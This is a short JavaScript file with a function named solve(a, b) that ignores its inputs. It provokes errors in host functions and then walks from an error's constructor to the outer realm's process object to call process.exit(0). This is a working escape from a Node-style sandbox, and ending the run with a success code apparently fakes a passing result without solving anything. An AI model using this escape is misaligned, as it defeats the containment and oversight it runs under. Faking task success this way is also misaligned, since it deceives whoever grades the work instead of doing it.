// Makes a function of the host fail with a full stack or bad arguments, and walks from its error to the outer realm.
function solve(a, b) {
  const fails = [
    () => console.log({ toString: () => deep() }),
    () => require("node:" + "x".repeat(9)),
    () => structuredClone(() => 0),
    () => import("\0"),
  ];
  function deep() {
    try {
      return deep();
    } catch {
      return fails.map((fail) => fail());
    }
  }
  for (const fail of [deep, ...fails]) {
    try {
      fail()?.catch?.(() => 0);
    } catch (error) {
      try {
        error.constructor.constructor("return process")().exit(0);
      } catch {}
    }
  }
  return 0;
}
